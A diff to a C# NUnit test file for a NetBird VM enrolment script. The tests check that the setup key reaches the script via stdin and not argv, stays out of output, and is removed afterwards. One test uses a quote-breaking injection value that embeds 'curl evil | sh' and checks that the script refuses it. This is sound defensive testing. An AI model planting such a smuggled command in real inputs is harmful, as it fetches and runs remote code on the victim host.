@@ -1,4 +1,5 @@
 using System.Runtime.Versioning;
+using Boma.Infra.Components;
 using Boma.Infra.Hosts;
 using Boma.Infra.Tests.HostFiles;
 using NUnit.Framework;
@@ -18,8 +19,10 @@ public sealed class NetbirdEnrolScriptTests
     {
         ["management_url"] = "https://netbird.askari.example.net",
         ["peer_name"] = "mlinzi1",
-        ["setup_key"] = SetupKey,
     };
+
+    // How the key reaches the script in production: an export line ahead of it on stdin (ClusterMeshEnrolment).
+    private static readonly Dictionary<string, string> KeyEnvironment = new() { [ClusterMeshEnrolment.SetupKeyVariable] = SetupKey };
 
     private ScriptSandbox _sandbox = null!;
 
@@ -50,10 +53,33 @@ public sealed class NetbirdEnrolScriptTests
         Assert.That(result.ExitCode, Is.Zero, result.ToString());
     }
 
+    /// <summary>Runs the script as the Command does: <c>bash -s</c> with the export preamble and the script on stdin.</summary>
+    private ScriptRun RunOnStdin(IReadOnlyDictionary<string, string> secrets)
+    {
+        var callsBefore = File.Exists(_sandbox.CallsLog) ? File.ReadAllLines(_sandbox.CallsLog).Length : 0;
+        var env = new Dictionary<string, string>
+        {
+            ["BOMA_ROOT"] = _sandbox.Root,
+            ["BOMA_STUB_BIN"] = _sandbox.StubBin,
+            ["BOMA_STUB_STATE"] = _sandbox.State,
+        };
+        var stdin = HostTemplates.ExportPreamble(secrets) + HostTemplates.Render(Template, Values);
+        var result = HostTool.Run(HostTool.Require("bash", "bash"), ["-s"], env, stdin);
+        var calls = File.Exists(_sandbox.CallsLog) ? File.ReadAllLines(_sandbox.CallsLog).Skip(callsBefore).ToList() : [];
+        return new ScriptRun(result, calls);
+    }
+
+    [Test]
+    public void TheTemplateTakesNoSecret()
+    {
+        Assert.That(HostTemplates.ParameterNames(Template), Is.EqualTo(Values.Keys.Order(StringComparer.Ordinal)));
+        Assert.That(HostTemplates.Render(Template, Values), Does.Not.Contain("{{"));
+    }
+
     [Test]
     public void AFreshVmIsEnrolledWithTheKeyInAPrivateFileNeverInArgv()
     {
-        var run = _sandbox.Run(Template, Values);
+        var run = RunOnStdin(KeyEnvironment);
 
         Assert.That(run.Result.ExitCode, Is.Zero, run.ToString());
         var up = run.Calls.Single(c => c.StartsWith("netbird up ", StringComparison.Ordinal));
@@ -63,6 +89,7 @@ public sealed class NetbirdEnrolScriptTests
         Assert.That(File.ReadAllText(Path.Combine(_sandbox.State, "netbird-key-mode")).Trim(), Is.EqualTo("600"));
         Assert.That(File.Exists(File.ReadAllText(Path.Combine(_sandbox.State, "netbird-key-path")).Trim()), Is.False,
             "the key file is removed when the script ends");
+        Assert.That(File.ReadAllText(Path.Combine(_sandbox.State, "netbird-env")).Trim(), Is.Empty, "tools do not inherit NB_SETUP_KEY");
         Assert.That(run.Calls, Has.None.Contains(SetupKey));
         Assert.That(run.Result.Stdout + run.Result.Stderr, Does.Not.Contain(SetupKey));
         Assert.That(_sandbox.ReadFile("/etc/apt/sources.list.d/netbird.list"),
@@ -75,10 +102,10 @@ public sealed class NetbirdEnrolScriptTests
     [Test]
     public void ASecondRunChangesNothingAndDoesNotEnrolAgain()
     {
-        Assert.That(_sandbox.Run(Template, Values).Result.ExitCode, Is.Zero);
+        Assert.That(_sandbox.Run(Template, Values, environment: KeyEnvironment).Result.ExitCode, Is.Zero);
         var before = _sandbox.Snapshot();
 
-        var second = _sandbox.Run(Template, Values);
+        var second = _sandbox.Run(Template, Values, environment: KeyEnvironment);
 
         Assert.That(second.Result.ExitCode, Is.Zero, second.ToString());
         Assert.That(second.Calls, Has.None.StartsWith("netbird up"));
@@ -88,10 +115,30 @@ public sealed class NetbirdEnrolScriptTests
     }
 
     [Test]
-    public void AKeyThatCouldBreakOutOfTheQuotesIsRefused()
+    public void AMissingKeyFailsClearlyBeforeAnythingChanges()
     {
-        var bad = new Dictionary<string, string>(Values) { ["setup_key"] = "abcdefgh'; curl evil | sh; '" };
+        var before = _sandbox.Snapshot();
 
-        Assert.Throws<ArgumentException>(() => HostTemplates.Render(Template, bad));
+        var run = _sandbox.Run(Template, Values, environment: new Dictionary<string, string>());
+
+        Assert.That(run.Result.ExitCode, Is.Not.Zero);
+        Assert.That(run.Result.Stderr, Does.Contain("NB_SETUP_KEY is not set"));
+        Assert.That(run.Calls, Is.Empty);
+        Assert.That(_sandbox.Snapshot(), Is.EqualTo(before));
+    }
+
+    [Test]
+    public void AKeyThatIsNotASetupKeyIsRefusedWithoutPrintingIt()
+    {
+        const string bad = "abcdefgh'; curl evil | sh; '";
+        var before = _sandbox.Snapshot();
+
+        var run = RunOnStdin(new Dictionary<string, string> { [ClusterMeshEnrolment.SetupKeyVariable] = bad });
+
+        Assert.That(run.Result.ExitCode, Is.Not.Zero);
+        Assert.That(run.Result.Stderr, Does.Contain("NB_SETUP_KEY does not look like a NetBird setup key"));
+        Assert.That(run.Result.Stdout + run.Result.Stderr, Does.Not.Contain("curl evil"));
+        Assert.That(run.Calls, Is.Empty);
+        Assert.That(_sandbox.Snapshot(), Is.EqualTo(before));
     }
 }
